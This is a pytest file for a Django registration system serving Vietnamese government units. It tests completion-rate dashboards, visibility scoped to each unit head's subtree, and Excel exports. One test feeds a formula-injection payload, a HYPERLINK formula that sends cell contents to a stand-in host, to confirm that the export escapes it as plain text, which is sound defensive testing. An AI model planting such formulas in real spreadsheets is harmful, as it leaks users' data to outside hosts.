"""The registration dashboard (rates against the target, who has not registered) and the
Excel lists, safe against formula injection."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tdkt.movements.constants import SheetState
from tdkt.movements.exports import render_sheet_xlsx, render_summary_xlsx
from tdkt.movements.registration_workflow import sheet_transition
from tdkt.movements.selectors import registration_dashboard
from tdkt.movements.services import sheet_line_add, sheet_start
from tdkt.organizations.constants import PersonnelCategory
from tdkt.organizations.services import person_create
from tdkt.rules.codes import GRASSROOTS_FIGHTER

from .registration_helpers import TODAY, open_year

pytestmark = pytest.mark.django_db


def test_rates_count_the_unit_and_its_people_in_submitted_or_approved_sheets(registry):
    """Investment: the unit and Ánh (2) plus a newcomer (3 due); the sheet lists the unit and
    Ánh and is submitted: 2/3 = 66.7 %, below the 100 % target, the newcomer is named.
    Planning has no sheet: 0/2. A draft sheet counts for nothing."""
    y = open_year(registry, with_team=False)
    newcomer = person_create(
        actor=registry.officer,
        full_name="Đoàn Thị Mai",
        category=PersonnelCategory.CIVIL_SERVANT,
        organization=registry.investment,
        start_date=date(2020, 1, 2),
    )
    sheet = sheet_start(
        actor=registry.investment_head,
        campaign=y.campaign,
        organization=registry.investment,
        today=date(2020, 1, 1),  # before Mai arrived: not prefilled
    )
    rows = {
        r.organization.name: r
        for r in registration_dashboard(actor=registry.officer, campaign=y.campaign, today=TODAY)
    }
    assert (rows["Phòng Quản lý Đầu tư"].registered, rows["Phòng Quản lý Đầu tư"].eligible) == (
        0,
        3,
    )
    sheet_transition(actor=registry.investment_head, sheet=sheet, to_state=SheetState.SUBMITTED)
    rows = {
        r.organization.name: r
        for r in registration_dashboard(actor=registry.officer, campaign=y.campaign, today=TODAY)
    }
    investment = rows["Phòng Quản lý Đầu tư"]
    assert (investment.registered, investment.eligible, str(investment.rate)) == (2, 3, "66.7")
    assert investment.meets_target is False
    assert [p.full_name for p in investment.missing_people] == [newcomer.full_name]
    planning = rows["Phòng Quy hoạch và Xây dựng"]
    assert (planning.registered, planning.eligible, planning.sheet) == (0, 2, None)
    assert planning.collective_registered is False


def test_a_unit_head_sees_the_rows_of_their_own_subtree_only(registry):
    y = open_year(registry)
    names = [
        r.organization.name
        for r in registration_dashboard(actor=registry.investment_head, campaign=y.campaign)
    ]
    assert names == ["Phòng Quản lý Đầu tư", "Tổ Xúc tiến đầu tư"]
    assert registration_dashboard(actor=registry.enterprise_rep, campaign=y.campaign) == []


def test_the_unit_list_as_excel_with_positions_labels_and_no_formula(registry):
    """A note typed as a formula stays text; titles are Vietnamese labels, not codes."""
    y = open_year(registry, with_team=False)
    sheet = sheet_start(
        actor=registry.investment_head,
        campaign=y.campaign,
        organization=registry.investment,
        today=TODAY,
    )
    sheet_line_add(
        actor=registry.investment_head,
        sheet=sheet,
        person=registry.anh,
        code=GRASSROOTS_FIGHTER,
        note='=HYPERLINK("http://x/?"&A1)',
        today=TODAY,
    )
    book = load_workbook(io.BytesIO(render_sheet_xlsx(sheet, today=TODAY)))
    ws = book.active
    assert ws["A4"].value == "DANH SÁCH ĐĂNG KÝ THI ĐUA NĂM 2020"
    assert ws["A5"].value == "Phòng Quản lý Đầu tư — Đang lập"
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=8)]
    assert ["Nguyễn Văn Ánh", "Cá nhân", "Chuyên viên", "Chiến sĩ thi đua cơ sở"] in [
        r[1:5] for r in rows
    ]
    notes = [r[5] for r in rows if r[5]]
    assert notes == ['\'=HYPERLINK("http://x/?"&A1)']
    assert all(not str(cell).startswith("=") for r in rows for cell in r if cell)
    assert ["Phòng Quản lý Đầu tư", "Tập thể", None, "Tập thể lao động tiên tiến"] in [
        r[1:5] for r in rows
    ]


def test_the_year_summary_as_excel_keeps_numbers_as_numbers(registry):
    y = open_year(registry, with_team=False)
    rows = registration_dashboard(actor=registry.officer, campaign=y.campaign, today=TODAY)
    book = load_workbook(io.BytesIO(render_summary_xlsx(2020, rows, 100)))
    ws = book.active
    data = [[c.value for c in row] for row in ws.iter_rows(min_row=8) if row[0].value]
    assert data[0][:6] == [1, "Phòng Quản lý Đầu tư", "Chưa lập", 2, 0, 0]
    assert data[0][6] == "Tập thể Phòng Quản lý Đầu tư; Nguyễn Văn Ánh"
    assert isinstance(data[0][5], (int, float))
